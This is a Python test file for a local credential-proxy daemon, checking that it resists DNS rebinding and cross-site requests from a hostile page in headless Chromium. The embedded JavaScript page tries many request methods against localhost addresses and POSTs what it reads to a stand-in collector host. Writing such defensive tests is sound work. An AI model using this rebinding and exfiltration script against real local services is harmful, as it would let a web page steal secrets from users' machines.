"""A page in a real browser that wants what the daemon gives. It comes from http://evil.example, whose name then leads
to the daemon's own port (DNS rebinding), and it tries everything that a page can send: none of it may reach the
upstream. Its twin is the same page with evil.example among the allowed hosts, which does get through."""

import json
import threading
import time

from harness import Handler, Server, StandIns, Valetd, ask, check, eventually, folder, must, need, same, spawn

# Every attempt names itself in the path, so that what arrives can be told apart.
PAGE = """<!DOCTYPE html><title>evil</title><body><script>
const collector = 'http://collector.example:%(collector)d', port = %(port)d;
const report = (what, found) =>
  fetch(`${collector}/report`, {method: 'POST', body: JSON.stringify([what, String(found)])});
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const settled = (start) => Promise.race([new Promise(start), pause(2000).then(() => 'nothing')]);
const bases = ['', `http://127.0.0.1:${port}`, `http://localhost:${port}`, `http://api.localhost:${port}`,
               `http://rebound.example:${port}`, `http://[::1]:${port}`];
const tag = (name, url) => settled((done) => {
  const element = document.createElement(name);
  element.onload = () => done('loaded'); element.onerror = () => done('error');
  if (name === 'link') { element.rel = 'stylesheet'; element.href = url; } else element.src = url;
  document.body.append(element);
});
let forms = 0;
const form = (method, url) => settled((done) => {
  const [form, frame] = [document.createElement('form'), document.createElement('iframe')];
  frame.name = form.target = `frame${forms++}`;
  form.action = url; form.method = method;
  document.body.append(frame, form);
  frame.onload = () => done('loaded');
  form.submit();
});
const read = (url, how) => Promise.race([pause(2000).then(() => 'nothing'), fetch(url, how).then(async (answer) =>
  `${answer.type} ${answer.status} ${(await answer.text()).slice(0, 60)}`, (error) => error.message)]);
const attempts = {
  get: (url) => read(url),
  no_cors: (url) => read(url, {mode: 'no-cors', credentials: 'include'}),
  post: (url) => read(url, {method: 'POST', body: 'x', mode: 'no-cors'}),
  json: (url) => read(url, {method: 'PUT', body: '{}', headers: {'Content-Type': 'application/json'}}),
  header: (url) => read(url, {headers: {Authorization: 'Bearer x', 'X-Own': '1'}}),
  xhr: (url) => settled((done) => {
    const request = new XMLHttpRequest();
    request.onloadend = () => done(`${request.status} ${request.responseText.slice(0, 60)}`);
    request.open('GET', url); request.send();
  }),
  beacon: (url) => navigator.sendBeacon(url, 'x'),
  img: (url) => tag('img', url), script: (url) => tag('script', url), iframe: (url) => tag('iframe', url),
  style: (url) => tag('link', url), video: (url) => tag('video', url),
  form_get: (url) => form('GET', url), form_post: (url) => form('POST', url),
  events: (url) => settled((done) => {
    const source = new EventSource(url);
    source.onopen = () => done('open'); source.onerror = () => { source.close(); done('error'); };
  }),
  websocket: (url) => settled((done) => {
    const socket = new WebSocket(new URL(url, location).href.replace('http', 'ws'));
    socket.onopen = () => done('open'); socket.onerror = () => done('error');
  }),
};
(async () => {
  fetch('/loaded').catch(() => {});
  // by now the name leads elsewhere
  while (await fetch(`${collector}/go`).then((answer) => answer.text()) !== 'go') await pause(50);
  for (const [name, attempt] of Object.entries(attempts)) {
    const found = await Promise.all(bases.map((base, number) => {
      const paths = base.includes('api.localhost') ? [`/${name}-${number}`] : [`/api/${name}-${number}`];
      return Promise.all(paths.map((path) => attempt(base + path)));
    }));
    await report(name, found.join(' | '));
  }
  await report('status', await read('/v1/status'));
  await report('done', '');
  location = `/api/navigation`;
})();
</script>"""


class Evil(Handler):
    """Serves the page, then makes room for the daemon on its port."""

    def do_GET(self):
        if self.path == "/loaded":
            self.close_connection = True
            self.server.loaded.set()
            return self.answer(200, Connection="close")
        self.answer(200, self.server.page, "text/html", Connection="close")
        self.close_connection = True


class Collector(Handler):
    """Where the page says what it could read."""

    def do_GET(self):
        self.answer(200, b"go" if self.server.go.is_set() else b"wait", Access_Control_Allow_Origin="*")

    def do_POST(self):
        what, found = json.loads(b"".join(self.body()))
        self.server.reports[what] = found
        self.answer(200, Access_Control_Allow_Origin="*")


class Api(Handler):
    """Anything with a token is welcome. Notes what has arrived."""

    def do_GET(self):
        b"".join(self.body())
        self.answer(200, b"the secret answer of the API")

    do_POST = do_PUT = do_GET


def visit(valetd, api, number):
    """Lets the page run against the daemon, which is not running yet; returns what the page reported and what the
    upstream has seen."""
    collector = Server(Collector)
    collector.go, collector.reports = threading.Event(), {}
    evil = Server(Evil, port=valetd.port)
    evil.loaded = threading.Event()
    evil.page = (PAGE % {"collector": collector.port, "port": valetd.port}).encode()
    del api.seen[:]
    # nothing but this machine can be found
    own = [f"EXCLUDE {name}" for name in ("127.0.0.1", "[::1]", "localhost", "*.localhost")]
    rules = ",".join(["MAP *.example 127.0.0.1", "MAP * ~NOTFOUND", *own])
    chromium = spawn(
        [need("chromium"), "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
         "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
         "--no-proxy-server",
         "--disable-features=HttpsUpgrades,HttpsFirstBalancedMode", f"--user-data-dir={folder(f'chromium{number}')}",
         f"--host-resolver-rules={rules}", f"http://evil.example:{valetd.port}/"],
        log=folder("chromium") / "log")
    try:
        assert evil.loaded.wait(30), "the page is not loaded: " + (folder("chromium") / "log").read_text()[-500:]
        evil.end()
        eventually("the port is free, and the daemon on it", lambda: started(valetd))
        collector.go.set()
        try:
            eventually("the page is through with it", lambda: "done" in collector.reports, 45)
        except AssertionError:
            raise AssertionError(f"the page stopped after {collector.reports}") from None
        time.sleep(0.5)  # the last step, a navigation, has nobody left to report it
    finally:
        chromium.kill()
        chromium.wait()
    return collector.reports, [path for _, path, _ in api.seen]


def started(valetd):
    try:
        return valetd.start()
    except (AssertionError, OSError):  # the browser's connections to the evil server linger
        return None


def main():
    stand_ins = StandIns()
    api = Server(Api)
    config = stand_ins.config() + f'[route.api]\naccount = "gbdx"\nupstream = "{api.url}"\n'
    valetd = Valetd(config).start()
    stand_ins.sign_in(valetd)
    valetd.stop()
    with check("a page, also by a rebound name, gets nothing through to the upstream"):
        need("chromium")
        reports, seen = visit(valetd, api, 1)
        same(seen, [], "what the upstream saw")
        assert len(reports) >= 17, f"the page did not try everything: {sorted(reports)}"
        readable = {what: found for what, found in reports.items() if "secret" in found or "open" in found}
        same(readable, {}, "what the page could read")
        assert '"check": "host"' in reports["get"], f"the daemon was not even asked: {reports['get']}"
        assert "accounts" not in reports["status"], reports["status"]
    with check("the twin: curl, on the same daemon, gets its answer"):
        need("chromium")
        for url in (valetd.url("api", "curl"), f"http://api.localhost:{valetd.port}/curl"):
            same(must([need("curl"), "-sS", "--fail-with-body", url]), "the secret answer of the API", url)
        same(len(api.seen), 2, "requests at the upstream")
    with check("the twin: with evil.example among the allowed hosts, the same page gets through"):
        need("chromium")
        valetd.stop()
        valetd.configure('hosts = ["evil.example"]\n' + config)
        reports, seen = visit(valetd, api, 2)
        assert "/get-0" in seen and "/img-0" in seen and "/navigation" in seen, seen
        assert "secret" in reports["get"], reports["get"]
        # and still nothing by other names, nor what says that it comes from another place
        foreign = [path for path in seen if not path.rstrip("?").endswith("-0") and path != "/navigation"]
        same(foreign, [], "what came across sites")
    with check("no answer of the daemon to a page carries a CORS field"):
        if valetd.stopped:  # without a browser, nobody has started it again
            valetd.start()
        origin = {"Origin": "http://evil.example"}
        preflight = origin | {"Access-Control-Request-Method": "PUT", "Access-Control-Request-Private-Network": "true"}
        for method, headers in (("GET", origin), ("OPTIONS", preflight)):
            status, fields, _ = ask(valetd.url("api", "x"), method, headers=headers)
            granted = [name for name in fields if name.lower().startswith("access-control-")]
            same((status, granted), (403, []), method)


main()
